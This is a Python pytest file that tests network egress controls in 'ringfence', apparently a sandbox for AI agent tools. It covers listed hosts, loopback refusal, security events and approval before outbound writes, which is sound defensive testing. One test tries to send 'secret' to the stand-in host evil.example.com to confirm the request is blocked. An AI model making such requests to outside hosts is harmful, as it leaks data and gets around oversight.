"""The network, through an open runtime with the shipped jail: listed hosts, votes, effects and security events."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncGenerator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from ringfence.assembly import open_runtime
from ringfence.runtime import Failed, Runtime
from tests.acceptance.spine.household import assert_completed, assert_waiting, config

MODULE = '''
"""Tools with a way out."""
import urllib.request

from ringfence import Context, Network, tool

HERE = Network("127.0.0.1:{port}")


@tool(safety="read", needs=[HERE])
def read_page(url: str) -> str:
    """Read a page."""
    return urllib.request.urlopen(url, timeout=5).read().decode()


@tool(safety="network", egress="write", idempotency="optional", needs=[HERE])
async def send_page(ctx: Context, url: str, text: str) -> int:
    """Send a text."""
    return (await ctx.http.post(url, content=text)).status_code
'''


@dataclass
class Site:
    """A server on loopback, which only `network.private` opens, with its own log."""

    port: int = 0
    heard: list[bytes] = field(default_factory=list[bytes])

    def url(self, path: str = "/") -> str:
        return f"http://127.0.0.1:{self.port}{path}"

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        head = await reader.readuntil(b"\r\n\r\n")
        length = next((int(line[15:]) for line in head.split(b"\r\n") if line.lower().startswith(b"content-length")), 0)
        self.heard.append(head + await reader.readexactly(length))
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 4\r\nConnection: close\r\n\r\npage")
        await writer.drain()
        writer.close()


@asynccontextmanager
async def opened(folder: Path, *, private: bool = True) -> AsyncGenerator[tuple[Runtime, Site]]:
    site = Site()
    server = await asyncio.start_server(site.serve, "127.0.0.1", 0)
    site.port = server.sockets[0].getsockname()[1]
    (folder / "webtools.py").write_text(MODULE.format(port=site.port))
    here = f"127.0.0.1:{site.port}"
    network: dict[str, Any] = {"allow": [here], "private": [here] if private else []}
    settings = config(
        folder,
        agent={"network": network},
        tools={"modules": ["webtools"], "path": [str(folder)]},
        sandbox={"kind": "local"},
    )
    try:
        async with open_runtime(settings, accept_as="bob") as runtime:
            yield runtime, site
    finally:
        server.close()


async def _events(runtime: Runtime, kind: str) -> list[dict[str, Any]]:
    return [event async for event in runtime.audit.export() if event["kind"] == kind]


@pytest.mark.req("NET-1", "NET-4", "SBX-8")
async def test_a_listed_host_is_reached_and_what_went_there_is_on_record(tmp_path: Path) -> None:
    async with opened(tmp_path) as (runtime, site):
        outcome = await runtime.session(agent="ana", user="ulla").call("read_page", {"url": site.url("/x")})
        assert assert_completed(outcome).output == "page"
        network: dict[str, Any] = assert_completed(outcome).effects["network"]
        (line,) = network["hosts"]
        assert (line["host"], line["port"], line["way"], line["requests"]) == ("127.0.0.1", site.port, "inspected", 1)
        assert line["bytes_out"] == len(site.heard[0])
        (completed,) = await _events(runtime, "tool_completed")
        assert completed["body"]["effects"]["network"] == network
        assert await _events(runtime, "security_event") == []


@pytest.mark.req("NET-4")
async def test_loopback_stays_closed_where_only_the_host_is_listed(tmp_path: Path) -> None:
    async with opened(tmp_path, private=False) as (runtime, site):
        outcome = await runtime.session(agent="ana", user="ulla").call("read_page", {"url": site.url()})
        assert isinstance(outcome, Failed)
        assert site.heard == []
        (noticed,) = await _events(runtime, "security_event")
        assert noticed["body"]["what"] == "network_refusal"
        assert "loopback" in noticed["body"]["detail"][0]


@pytest.mark.req("NET-1", "NET-6")
async def test_an_unlisted_host_is_a_security_event_and_hears_nothing(tmp_path: Path) -> None:
    async with opened(tmp_path) as (runtime, site):
        session = runtime.session(agent="ana", user="ulla")
        outcome = await session.call("read_page", {"url": "https://evil.example.com/?q=secret"})
        assert isinstance(outcome, Failed)
        assert [entry["name"] for entry in outcome.effects["network"]["names"]] == ["evil.example.com"]
        (noticed,) = await _events(runtime, "security_event")
        assert noticed["body"]["detail"] == [
            "host_not_allowed: `evil.example.com` does not resolve: the name is not listed"
        ]
        assert site.heard == []


@pytest.mark.req("NET-5", "CON-5", "IDM-1")
async def test_write_egress_leaves_once_a_person_approved_it(tmp_path: Path) -> None:
    async with opened(tmp_path) as (runtime, site):
        session = runtime.session(agent="ana", user="ulla")
        waiting = assert_waiting(await session.call("send_page", {"url": site.url(), "text": "hello"}))
        assert site.heard == []
        await runtime.approvals.vote(waiting.approval_id, voter="alice", decision="approve")
        outcome = assert_completed(await session.resume(waiting.invocation_id))
        assert outcome.output == 200
        assert [line["way"] for line in outcome.effects["network"]["hosts"]] == ["mediated"]
        assert site.heard[0].endswith(b"\r\n\r\nhello")
        assert b"Idempotency-Key: " in site.heard[0]
